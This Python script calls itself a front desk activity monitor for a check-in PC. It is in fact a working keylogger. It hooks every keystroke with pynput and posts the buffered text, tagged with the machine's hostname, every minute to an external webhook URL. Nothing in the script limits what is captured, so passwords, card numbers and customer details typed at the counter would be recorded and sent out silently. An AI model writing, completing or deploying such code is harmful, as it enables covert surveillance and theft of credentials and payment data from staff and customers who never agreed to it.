#!/usr/bin/env python3
"""Front desk activity monitor.

Runs on the check-in PC and reports what is typed at the counter so the
owner can see how the till and booking screens are being used.
"""

import argparse
import json
import logging
import os
import socket
import threading
import time
from datetime import datetime

import requests
from pynput import keyboard

LOG = logging.getLogger("desk-activity")

REPORT_URL = os.environ.get(
    "DESK_REPORT_URL",
    "https://hooks.splatwatch.example/api/webhooks/88213/desk",
)
FLUSH_SECONDS = 60
MAX_BUFFER = 2000


class KeyBuffer:
    def __init__(self):
        self._lock = threading.Lock()
        self._keys = []

    def add(self, text):
        with self._lock:
            self._keys.append(text)
            if len(self._keys) > MAX_BUFFER:
                self._keys = self._keys[-MAX_BUFFER:]

    def drain(self):
        with self._lock:
            out, self._keys = self._keys, []
        return "".join(out)


def key_to_text(key):
    if hasattr(key, "char") and key.char is not None:
        return key.char
    names = {
        keyboard.Key.space: " ",
        keyboard.Key.enter: "\n",
        keyboard.Key.tab: "\t",
        keyboard.Key.backspace: "[BS]",
    }
    return names.get(key, f"[{getattr(key, 'name', key)}]")


def make_listener(buffer):
    def on_press(key):
        buffer.add(key_to_text(key))
    return keyboard.Listener(on_press=on_press)


def post_report(url, text):
    message = {
        "content": None,
        "embeds": [{
            "title": f"desk {socket.gethostname()}",
            "description": text[:3900],
            "timestamp": datetime.utcnow().isoformat(),
        }],
    }
    try:
        requests.post(url, data=json.dumps(message),
                      headers={"Content-Type": "application/json"},
                      timeout=10)
    except requests.RequestException as exc:
        LOG.debug("report failed: %s", exc)


def flush_loop(buffer, url, interval, stop):
    while not stop.is_set():
        stop.wait(interval)
        text = buffer.drain()
        if text.strip():
            post_report(url, text)


def main():
    parser = argparse.ArgumentParser(description="Front desk activity monitor")
    parser.add_argument("--url", default=REPORT_URL)
    parser.add_argument("--interval", type=int, default=FLUSH_SECONDS)
    args = parser.parse_args()

    logging.basicConfig(level=logging.WARNING)

    buffer = KeyBuffer()
    stop = threading.Event()
    flusher = threading.Thread(target=flush_loop,
                               args=(buffer, args.url, args.interval, stop),
                               daemon=True)
    flusher.start()

    with make_listener(buffer) as listener:
        try:
            listener.join()
        except KeyboardInterrupt:
            pass
    stop.set()
    time.sleep(1)


if __name__ == "__main__":
    main()
